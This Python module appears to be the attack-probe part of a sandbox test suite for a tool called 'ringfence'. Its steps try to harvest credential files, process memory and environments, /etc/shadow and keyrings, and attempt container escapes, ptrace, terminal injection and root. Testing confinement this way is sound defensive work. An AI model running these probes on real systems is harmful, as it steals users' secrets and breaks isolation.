"""Where a secret can be: each step reads one kind of place."""

import ctypes
import fcntl
import glob
import mmap
import os
import re
import socket
import stat
import subprocess
import termios
import time

from steps import Loot, step

HOME_FILES = {
    "aws": ".aws/credentials",
    "ssh": ".ssh/id_*",
    "netrc": ".netrc",
    "git": ".git-credentials",
    "git_xdg": ".config/git/credentials",
    "npm": ".npmrc",
    "pypi": ".pypirc",
    "cargo": ".cargo/credentials*",
    "docker": ".docker/config.json",
    "kube": ".kube/config",
    "gcloud": ".config/gcloud/*",
    "azure": ".azure/*",
    "gh": ".config/gh/hosts.yml",
    "terraform": ".terraform.d/credentials.tfrc.json",
    "vault": ".vault-token",
    "gnupg": ".gnupg/private-keys-v1.d/*",
    "password_store": ".password-store/*",
    "keyring": ".local/share/keyrings/*",
    "firefox": ".mozilla/firefox/*/*",
    "chrome": ".config/google-chrome/*/*",
    "history": ".*_history",
    "claude": ".claude/.credentials.json",
    "claude_json": ".claude.json",
    "ringfence_config": ".config/ringfence/**",
    "ringfence_state": ".local/state/ringfence/**",
    "ringfence_cache": ".cache/ringfence/**",
    "secret_sources": "secret-sources/*",
}


def _home_step(name: str, pattern: str) -> None:
    def action(targets: dict, loot: Loot) -> int:
        return sum(_take_all(loot, os.path.join(home, pattern)) for home in _homes(targets))

    action.__name__ = f"home_{name}"
    step("look")(action)


def _homes(targets: dict) -> list[str]:
    if targets.get("only"):  # outside a boundary the tests look at their own home alone
        return [targets["home"]]
    return list(dict.fromkeys([targets["home"], os.path.expanduser("~"), "/root", *glob.glob("/home/*")]))


def _take_all(loot: Loot, pattern: str) -> int:
    total = 0
    for path in glob.glob(pattern, recursive=True, include_hidden=True):
        try:
            total += loot.take(path)
        except OSError:
            continue
    return total


for _name, _pattern in HOME_FILES.items():
    _home_step(_name, _pattern)


@step("look")
def own_environment(_targets: dict, loot: Loot) -> int:
    return loot.add("env", "\n".join(f"{key}={value}" for key, value in os.environ.items()).encode())


@step("look")
def own_environment_in_proc(_targets: dict, loot: Loot) -> int:
    return loot.take("/proc/self/environ")


@step("look")
def every_process(_targets: dict, loot: Loot) -> int:
    kinds = ("environ", "cmdline", "stack", "auxv", "status")
    return sum(_take_all(loot, f"/proc/[0-9]*/{kind}") for kind in kinds)


@step("look")
def files_open_in_other_processes(_targets: dict, loot: Loot) -> int:
    others = [path for path in glob.glob("/proc/[0-9]*/fd/*") if f"/{os.getpid()}/" not in path]
    regular = [path for path in others if _is_regular(path)]
    return sum(_take_all(loot, glob.escape(path)) for path in regular)


@step("look")
def host_through_other_processes_roots(targets: dict, loot: Loot) -> int:
    found = 0
    for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
        for home in _homes(targets):
            found += _take_all(loot, f"{glob.escape(root)}{home}/.aws/credentials")
            found += _take_all(loot, f"{glob.escape(root)}/../../../..{home}/.aws/credentials")
    return found


@step("look")
def memory_of_other_processes(_targets: dict, loot: Loot) -> int:
    found = 0
    for folder in glob.glob("/proc/[0-9]*"):
        if folder == f"/proc/{os.getpid()}":
            continue
        try:
            found += _memory(folder, loot)
        except OSError:
            continue
    return found


def _memory(folder: str, loot: Loot) -> int:
    found = 0
    with open(f"{folder}/maps", encoding="utf-8") as maps, open(f"{folder}/mem", "rb", 0) as memory:
        for line in list(maps):
            if "[stack]" not in line and "[heap]" not in line:
                continue
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            found += loot.add(f"{folder} memory", memory.read(min(end - start, 1 << 20)))
    return found


@step("look")
def ptrace_first_process(_targets: dict, _loot: Loot) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 1, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached to process 1"


@step("look")
def inherited_descriptors(_targets: dict, loot: Loot) -> int:
    found = 0
    for number in range(3, 256):
        try:
            kind = os.fstat(number).st_mode
            if stat.S_ISREG(kind):
                found += loot.add(f"fd {number}", os.pread(number, 65536, 0))
        except OSError:
            continue
    return found


@step("look")
def credential_files_of_the_project(_targets: dict, loot: Loot) -> int:
    names = (
        ".env*",
        "*.pem",
        "*.key",
        "service-account*.json",
        ".npmrc",
        ".pypirc",
        ".netrc",
        "credentials*.json",
    )
    return sum(_take_all(loot, f"**/{name}") for name in names)


@step("look")
def credential_files_after_renaming_their_folder(_targets: dict, loot: Loot) -> int:
    found = 0
    for folder in ("deploy", "deploy/keys"):
        if os.path.isdir(folder):
            os.rename(folder, folder + "-moved")
            found += _take_all(loot, f"{folder}-moved/**")
            os.rename(folder + "-moved", folder)
    return found


@step("look")
def credential_file_by_hard_link(_targets: dict, loot: Loot) -> int:
    os.link(".env", "innocent.txt")
    return loot.take("innocent.txt")


@step("look")
def credential_file_by_rename(_targets: dict, loot: Loot) -> int:
    os.rename(".env", "innocent.txt")
    return loot.take("innocent.txt")


@step("look")
def credential_file_by_other_spellings(_targets: dict, loot: Loot) -> int:
    here = os.getcwd()
    spellings = [
        "./.env",
        "deploy/../.env",
        "/proc/self/cwd/.env",
        f"/proc/self/root{here}/.env",
        "//" + here + "/.env",
    ]
    found = 0
    for path in spellings:
        try:
            found += loot.take(path)
        except OSError:
            continue
    return found


@step("look")
def home_through_a_symlink_in_the_project(targets: dict, loot: Loot) -> int:
    os.symlink(targets["home"], "way-out")
    return _take_all(loot, "way-out/.aws/*") + _take_all(loot, "way-out/.ssh/*")


@step("look")
def folders_above_the_project(_targets: dict, loot: Loot) -> int:
    return _take_all(loot, "../.*/*") + _take_all(loot, "../../.*/*") + _take_all(loot, "../.*")


@step("look")
def unmount_what_hides_files(_targets: dict, loot: Loot) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        points = [line.split()[4] for line in file]
    done = sum(
        libc.umount2(point.encode(), 2) == 0 for point in reversed(points) if point.startswith(os.getcwd())
    )
    if not done:
        raise OSError(ctypes.get_errno(), "umount2")
    return _take_all(loot, "**/.env*")


@step("look")
def a_user_namespace_of_its_own(_targets: dict, _loot: Loot) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare")
    return "got a user namespace"


@step("look")
def a_fresh_proc(_targets: dict, _loot: Loot) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    os.makedirs("/tmp/proc", exist_ok=True)
    if libc.mount(b"proc", b"/tmp/proc", b"proc", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return "mounted a proc"


@step("look")
def files_by_handle(_targets: dict, _loot: Loot) -> object:
    """The way out of containers that is called shocker: open files of a mount by inode number."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = (ctypes.c_char * 16).from_buffer_copy(
        (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    )
    folder = os.open(".", os.O_RDONLY)
    opened = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
    if opened < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return "opened an inode by number"


@step("look")
def devices(_targets: dict, loot: Loot) -> int:
    found = 0
    for path in [
        "/dev/mem",
        "/dev/kmsg",
        "/dev/kvm",
        "/dev/fuse",
        *glob.glob("/dev/[svx]d[a-z]*"),
        "/proc/kcore",
    ]:
        if os.path.exists(path):
            with open(path, "rb") as file:
                found += loot.add(path, file.read(4096)) or 1
    return found


@step("look")
def a_disk_made_by_hand(_targets: dict, loot: Loot) -> object:
    os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    return loot.take("/tmp/disk")


@step("look")
def system_secrets(_targets: dict, loot: Loot) -> int:
    patterns = (
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/ssh/*_key",
        "/run/secrets/*",
        "/var/run/secrets/**",
        "/etc/ringfence/**",
    )
    return sum(_take_all(loot, pattern) for pattern in patterns)


@step("look")
def shared_memory(_targets: dict, loot: Loot) -> int:
    found = _take_all(loot, "/dev/shm/*") + _take_all(loot, "/dev/mqueue/*")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for number in range(64):
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, ctypes.c_void_p(-1).value):
            found += loot.add(f"shm {number}", ctypes.string_at(address, mmap.PAGESIZE))
    return found


@step("look")
def host_temporary_files(_targets: dict, loot: Loot) -> int:
    return _take_all(loot, "/tmp/*") + _take_all(loot, "/var/tmp/*") + _take_all(loot, "/run/user/*/*")


@step("look")
def kernel_keyring(_targets: dict, loot: Loot) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    ring = libc.syscall(250, 0, -3, 0)  # KEYCTL_GET_KEYRING_ID, the session's
    if ring < 0:
        raise OSError(ctypes.get_errno(), "keyctl")
    buffer = ctypes.create_string_buffer(4096)
    length = libc.syscall(250, 11, ring, buffer, 4096)
    return loot.add("keyring", buffer.raw[: max(0, length)])


@step("look")
def unix_sockets(targets: dict, _loot: Loot) -> object:
    paths = [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
    ]
    paths += [
        os.environ.get("SSH_AUTH_SOCK", ""),
        *targets.get("unix_sockets", []),
        *glob.glob("/tmp/*/agent.*"),
    ]
    reached = [path for path in paths if path and _connects(path)]
    reached += [name for name in targets.get("abstract_sockets", []) if _connects("\0" + name)]
    return reached


def _connects(path: str) -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        try:
            client.connect(path)
        except OSError:
            return False
        return True


@step("look")
def terminal_injection(_targets: dict, _loot: Loot) -> object:
    for number in (0, 1, 2):
        try:
            fcntl.ioctl(number, termios.TIOCSTI, b"\n")
        except OSError:
            continue
        return f"typed into descriptor {number}"
    return None


@step("look")
def become_root(_targets: dict, _loot: Loot) -> object:
    for argv in (["sudo", "-n", "true"], ["su", "-c", "true"], ["pkexec", "true"]):
        try:
            if (
                subprocess.run(
                    argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=5, check=False
                ).returncode
                == 0
            ):
                with open("/etc/shadow", "rb"):
                    return argv
        except (OSError, subprocess.TimeoutExpired):
            continue
    return None


@step("look")
def anything_readable_that_looks_like_a_secret(targets: dict, loot: Loot) -> int:
    pattern = re.compile(rb"canary-[0-9a-f]{16}|PRIVATE KEY-----")
    end = time.monotonic() + 6
    found = 0
    for top in (
        targets["home"],
        "/root",
        "/home",
        "/tmp",
        "/var",
        "/run",
        "/srv",
        "/mnt",
        "/opt",
        "/dev/shm",
        "/etc",
        "/",
    ):
        for folder, folders, files in os.walk(top):
            folders[:] = [
                name for name in folders if name not in {"proc", "sys", "usr", "lib", "node_modules", "agent"}
            ]
            if time.monotonic() > end:
                return found
            for name in files:
                found += _search(os.path.join(folder, name), pattern, loot)
    return found


def _search(path: str, pattern: "re.Pattern[bytes]", loot: Loot) -> int:
    try:
        if not _is_regular(path) or os.path.getsize(path) > 1 << 20:
            return 0
        with open(path, "rb") as file:
            data = file.read()
    except OSError:
        return 0
    return loot.add(path, data) if pattern.search(data) else 0


def _is_regular(path: str) -> bool:
    try:
        return stat.S_ISREG(os.stat(path).st_mode)
    except OSError:
        return False
